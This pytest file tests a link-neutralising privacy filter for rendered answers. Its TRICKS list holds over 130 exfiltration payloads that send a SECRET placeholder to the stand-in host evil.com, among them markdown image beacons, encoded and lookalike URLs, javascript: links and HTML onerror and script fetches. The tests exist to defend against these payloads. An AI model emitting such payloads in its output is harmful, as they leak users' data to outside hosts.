"""Links of answers: what would carry something away is inert in every renderer, what may stay is untouched."""

from __future__ import annotations

import time

import pytest
from tests.rendered import destinations, leaves

from palier.privacy.destinations import Destinations
from palier.privacy.links import HOLD, MAX_IMAGES, InertLinks

EVIDENCE = (
    "Our offers: https://shop.example.com/offers/fibre?lang=fr and [help](https://help.example.org/faq). "
    "Write to support@example.org. ![plan](https://img.example.org/plan.png) See www.armorique.fr.",
    "https://docs.example.net/guide/start",
)
ALLOWED = ("ok.example.com", "*.cdn.example.com")

TRICKS = [
    # Markdown images and links
    "![](https://evil.com/?q=SECRET)",
    "![alt](http://evil.com/SECRET.png)",
    "![a](<https://evil.com/?q=SECRET>)",
    '![a](https://evil.com/?q=SECRET "title")',
    "![a](https://evil.com/?q=SECRET 'title')",
    "![a]( https://evil.com/SECRET )",
    "![a](\nhttps://evil.com/SECRET\n)",
    f"![a]({' ' * 60}https://evil.com/SECRET)",
    "![a [b] c](https://evil.com/SECRET)",
    "![[[a]]](https://evil.com/SECRET)",
    "[![a](https://evil.com/1)](https://evil.com/2)",
    "[a](https://evil.com/?q=SECRET)",
    "[a](HTTPS://EVIL.COM/SECRET)",
    "[a](//evil.com/SECRET)",
    "![a](//evil.com/SECRET)",
    "[a](/\\evil.com/SECRET)",
    "![a](/\\evil.com/SECRET)",
    "[a](\\\\evil.com/SECRET)",
    "[a](https:evil.com/SECRET)",
    "[a](https:/evil.com/SECRET)",
    "[a](https:\\/\\/evil.com/SECRET)",
    "[a](https\\://evil.com/SECRET)",
    "[a](https&#58;//evil.com/SECRET)",
    "[a](https&colon;//evil.com/SECRET)",
    "[a](&#104;ttps://evil.com/SECRET)",
    "[a](&#x2F;&#x2F;evil.com/SECRET)",
    "[a](&sol;&sol;evil.com/SECRET)",
    "[a](https://evil&period;com/SECRET)",
    "[a](h&Tab;ttps://evil.com/SECRET)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert`1`)",
    "[a](java&#115;cript:alert(1))",
    f"[a]({' ' * 60}javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](tel:+33SECRET)",
    "[a](mailto:evil@evil.com?body=SECRET)",
    "[a](vscode://evil/SECRET)",
    "[a](\x01https://evil.com/SECRET)",
    "[a](\u200bhttps://evil.com/SECRET)",
    "[a](https://evil.com\u200b/SECRET)",
    # references
    "![a][x]\n\n[x]: https://evil.com/SECRET",
    "![a][x]\n\n[x]:\nhttps://evil.com/SECRET",
    "![x]\n\n[x]: <https://evil.com/SECRET> 'title'",
    "![x][]\n\n> [x]: //evil.com/SECRET",
    "[x]\n\n   [x]:https://evil.com/SECRET",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: &#47;&#47;evil.com/SECRET",
    "[x]\n\n[x]: \\/\\/evil.com/SECRET",
    # autolinks and bare
    "<https://evil.com/SECRET>",
    "<HTTPS://evil.com/SECRET>",
    "<javascript:alert(1)>",
    "<data:text/html,SECRET>",
    "<SECRET@evil.com>",
    "<https:evil.com/SECRET>",
    "https://evil.com/SECRET",
    "see(https://evil.com/SECRET)",
    "*https://evil.com/SECRET*",
    "|https://evil.com/SECRET|",
    "www.evil.com/SECRET",
    "WWW.evil.com/SECRET",
    "evil.com/?q=SECRET",
    "SECRET.evil.com",
    "ftp://evil.com/SECRET",
    "//evil.com/SECRET",
    "https&#58;//evil.com/SECRET",
    "evil&#46;com/SECRET",
    "evil\\.com/SECRET",
    "https\\://evil.com/SECRET",
    "SECRET@evil.com",
    "mailto:SECRET@evil.com",
    "https://3232235777/SECRET",
    "https://[2001:db8::1]/SECRET",
    "http://192.0.2.1/SECRET",
    "https://user:SECRET@evil.com/",
    # taken for another host
    "https://ok.example.com@evil.com/SECRET",
    "https://ok.example.com:80@evil.com/SECRET",
    "https://ok.example.com.evil.com/SECRET",
    "https://ok.example.com\\@evil.com/SECRET",
    "https://evil.com/?https://ok.example.com/",
    "https://evil.com#https://ok.example.com/",
    "https://оk.example.com/SECRET",
    "https://ok.example。com/SECRET",
    "https://xn--k-0ta.example.com/SECRET",
    "https://evilok.example.com.evil.com/SECRET",
    "https://cdn.example.com/SECRET",
    "https://evilcdn.example.com/SECRET",
    "*https://ok.example.com/*https://evil.com/SECRET",
    "~~https://ok.example.com/~~evil.com/?SECRET",
    "__https://ok.example.com/__,evil.com/?SECRET",
    "https://ok.example.com/](https://evil.com/SECRET)",
    "[https://ok.example.com/](https://evil.com/SECRET)",
    "| a | b |\n|---|---|\n|https://ok.example.com/|https://evil.com/SECRET|",
    # a host of the evidence, with something of its own
    "![](https://shop.example.com/?q=SECRET)",
    "![](https://shop.example.com/offers)",
    "![](https://img.example.org/plan.png?q=SECRET)",
    "[a](https://shop.example.com/offers/fibre?lang=SECRET)",
    "[a](https://shop.example.com/SECRET)",
    "https://shop.example.com/offers/SECRET",
    "https://SECRET.shop.example.com/",
    "https://docs.example.net/guide/start(SECRET)",
    "https://docs.example.net/guide/start[SECRET]",
    'https://docs.example.net/guide/start"SECRET"',
    "https://docs.example.net/guide/start|SECRET",
    "https://docs.example.net/guide/start`SECRET",
    "[https://docs.example.net/guide/start](SECRET",
    "[a](https://docs.example.net/guide/start)SECRET",
    "SECRET@example.org",
    "//support@example.org/?q=SECRET",
    "//SECRET?support@example.org",
    "support@example.org?body=SECRET",
    "https://support@example.org/SECRET",
    "SECRET=support@example.org",
    "x_www.evil.com/SECRET",
    "a/b_www.evil.com/SECRET",
    "evil[.]com/x%evil.com/SECRET",
    "/\u203bevil.com/SECRET",
    # HTML
    '<img src="https://evil.com/SECRET">',
    "<img src=https://evil.com/SECRET>",
    "<img/src=https://evil.com/SECRET>",
    "<IMG\nSRC='https://evil.com/SECRET'>",
    "<img\tsrc='//evil.com/SECRET'>",
    '<img srcset="https://evil.com/SECRET 2x">',
    '<img alt=">" src="//evil.com/SECRET">',
    '<img src="ht\ntps://evil.com/SECRET">',
    '<img src="&#104;ttps://evil.com/SECRET">',
    "<img src=x onerror=fetch('https://evil.com/SECRET')>",
    '<a href="https://evil.com/SECRET">a</a>',
    '<a href="javascript:alert(1)">a</a>',
    '<div style="background:url(//evil.com/SECRET)">a</div>',
    "<style>*{background:url(//evil.com/SECRET)}</style>",
    "<script>fetch('//evil.com/SECRET')</script>",
    '<iframe src="//evil.com/SECRET"></iframe>',
    '<object data="//evil.com/SECRET"></object>',
    '<video poster="//evil.com/SECRET"></video>',
    '<base href="//evil.com/">',
    '<meta http-equiv="refresh" content="0;url=//evil.com/SECRET">',
    '<svg><image href="//evil.com/SECRET"/></svg>',
    '<form action="//evil.com/"><input name=q value=SECRET></form>',
    '<body background="//evil.com/SECRET">',
    "<div>\n<img src=//evil.com/SECRET>\n</div>",
    '<scr<script>ipt src="//evil.com/">',
    '<x<y style="background:url(//3232235777/SECRET)">',
    "<div>\n<x\"y style='background:url(//3232235777/SECRET)'>\n</div>",
    "<x:y style='background:url(//3232235777/SECRET)'>",
    "<x@y style='background:url(//3232235777/SECRET)'>",
    "<https://ok.example.com/ style='background:url(//3232235777/SECRET)'>",
    "<!--><img src=//evil.com/SECRET>-->",
    # in code that is none
    "```\n![](https://evil.com/SECRET)\n```",
    "`a` ![](https://evil.com/SECRET) `",
    "    ![](https://evil.com/SECRET)",
    "> ```\n![](https://evil.com/SECRET)",
    f"![](https://evil.com/{'S' * 3000})",
    f"[a](https://ok.example.com/{'S' * 3000})",
]

STAYS = [
    "Bonjour, votre fibre est réparée sous 48 h (coût : 0,00 €). N'hésitez pas !",
    "Version 1.2.3, 3.14, 192.168.1.1, 12:30, a/b, et/ou, e.g. i.e. M. Dupont, fin.Puis",
    "See README.md, main.py and `user.id`; call self.assertEqual(a.b, c.d) in `os.path.join`.",
    "| a | b |\n|---|---|\n| [1] | [2]: see below |",
    "Map<String,Integer> x = new ArrayList<>(); if (a < b && c > d) {}",
    "AT&T, R&D, &amp; &lt;b&gt; &eacute; &nbsp;",
    "<b>bold</b><br/><br /> x<sup>2</sup> </p>",
    "[1] and [2](#sources) and [3](../faq/index.md) and [4](/help)",
    "C:\\Users\\x and C:/Users",
    "Note : voir https://docs.example.net/guide/start.",
    "(https://docs.example.net/guide/start), **https://docs.example.net/guide/start**",
    "[guide](https://docs.example.net/guide/start) and <https://docs.example.net/guide/start>",
    "[guide](https://docs.example.net/guide) https://docs.example.net/ docs.example.net",
    "[https://docs.example.net/guide/start](https://docs.example.net/guide/start)",
    "![plan](https://img.example.org/plan.png)",
    "https://shop.example.com/offers/fibre?lang=fr",
    "http://shop.example.com/offers/fibre?lang=fr",
    "Support@example.org, [write](mailto:support@example.org), <support@example.org>",
    "www.armorique.fr, [us](https://www.armorique.fr)",
    "![x](https://ok.example.com/a?b=c&d=e#f) https://a.cdn.example.com:8443/x_y-z/%C3%A9?q=1+2",
    "https://ok.example.com, <https://ok.example.com/>, [a](//ok.example.com/b 'title')",
    "[x]: https://ok.example.com/a\n\n![x]",
    "```python\nuser.name = event.target.value  # http.client\n```",
]


def inert() -> InertLinks:
    return InertLinks(ALLOWED, EVIDENCE)


@pytest.mark.parametrize("text", TRICKS)
def test_tricks_lead_nowhere(text: str) -> None:
    done, broken = inert().whole(text)
    left, linked = destinations(done)
    assert broken
    assert not [url for url in left if leaves(url)], done
    assert not [url for url in linked if leaves(url) and not may_stay(url)], done
    assert "SECRET" not in text or "SECRET" in done, "words stay readable"
    assert inert().whole(done) == (done, 0)


def may_stay(url: str) -> bool:
    """What a trick may hold besides: a host that is allowed, or the same that stands in the evidence."""
    plain = url.removeprefix("https://")
    return plain.startswith("ok.example.com/") or plain.rstrip(")") in (
        "docs.example.net/guide/start",
        "shop.example.com/offers",
        "img.example.org/plan.png",
    )


@pytest.mark.parametrize("text", STAYS)
def test_what_is_no_link_or_may_be_one_stays(text: str) -> None:
    assert inert().whole(text) == (text, 0)


def test_the_tricks_are_ones() -> None:
    """Most of them work in the renderers here; the others do in some client's."""
    works = [any(map(leaves, loads + links)) for loads, links in map(destinations, TRICKS)]
    assert len(TRICKS) > 130
    assert sum(works) > 90


def test_images_are_for_a_few() -> None:
    evidence = [f"![{letter}](https://evil.com/{letter}.png)" for letter in "abcdefgh"]
    links = InertLinks((), evidence)
    done, _ = links.whole("\n".join(evidence))
    loads, _ = destinations(done)
    assert len(set(loads)) == MAX_IMAGES, "which letters are loaded must not spell a secret"


def test_what_is_held_back_is_bounded() -> None:
    links = inert()
    given = shown = 0
    for chunk in [
        "see https://ok.example.com/",
        *("x" * 7 for _ in range(1000)),
        " ",
        "[a](",
        *(" " for _ in range(3000)),
    ]:
        given += len(chunk)
        shown += len(links.feed(chunk).replace("[:]", ":").replace("] (", "](").replace("[.]", "."))
        assert given - shown < HOLD
    links.end()


def test_plain_words_are_not_held_back() -> None:
    links = inert()
    words = "La fibre est réparée sous 48 heures , sans frais ! ( voir l' offre )\n\n- un\n- deux"
    for word in words.split(" "):
        assert links.feed(f"{word} ") == f"{word} "
    assert links.end() == ""
    assert links.broken == 0


def test_a_delta_costs_little() -> None:
    """Loose: a tenth of a millisecond. What was measured stands in the how-to."""
    links = inert()
    deltas = [
        "La fibre",
        " est réparée",
        " sous 48",
        " heures.",
        " Voir https",
        "://",
        "docs",
        ".example",
        ".net/",
        " ",
    ] * 200
    started = time.process_time()
    for delta in deltas:
        links.feed(delta)
    assert (time.process_time() - started) / len(deltas) < 1e-4


def test_a_long_text_takes_linear_time() -> None:
    for piece in ("[", "](", "a.b", "<a ", "&#5", "x:/", "![", "..", "@a.", "https://", "`", "(", "\\."):
        started = time.process_time()
        inert().whole(piece * 20_000)
        assert time.process_time() - started < 5, piece


@pytest.mark.parametrize(
    "text",
    [
        "`request.user.id`",
        "a `request.user.id` b",
        "``request.user.id ` x``",
        "```\nrequest.user.id/2\n```",
        "```python\nrequest.user.id\n```\n",
    ],
)
def test_names_in_code_are_no_domains(text: str) -> None:
    assert inert().whole(text) == (text, 0)


@pytest.mark.parametrize(
    "text",
    [
        "`s.evil.md",
        "`s.evil.md\n`",
        "`s.evil.md ``",
        "\\`s.evil.md`",
        "`a` s.evil.md `b`",
        "`s.evil.md\\`",
        "```a`b\ns.evil.md",
        "~~~\n```\n~~~\ns.evil.md",
        "- ```\n  a\n  ```\ns.evil.md",
        "1. a\n   ```\ns.evil.md",
        "> ```\ns.evil.md",
        "```\na\n ```\ns.evil.md",
    ],
)
def test_what_may_not_be_code_is_not(text: str) -> None:
    done, broken = inert().whole(text)
    assert (done.replace("[.]", "."), broken) == (text, 1)


def test_what_a_client_wrote_is_searched_for_addresses_in_linear_time() -> None:
    def seconds(written: str) -> float:
        began = time.process_time()
        inert = InertLinks(evidence=(written, "Write to support@example.org."))
        assert inert.whole("mail support@example.org") == ("mail support@example.org", 0)
        return time.process_time() - began

    seconds("a")
    assert seconds("a" * 40_000) < 0.5  # four seconds, where each letter may begin an address
    assert seconds("a.+" * 20_000 + "@") < 0.5


def test_a_url_that_nobody_could_link_to_is_not_kept_with_all_above_it() -> None:
    long = "https://a.example/" + "/".join("b" * 50_000 for _ in range(32))
    to = Destinations((), [f"{long} https://shop.example.com/fibre"])
    assert to.allows("https://shop.example.com/fibre", image=False)
    assert not to.allows("https://a.example/", image=False)
    assert sum(map(len, to._above)) < 1000
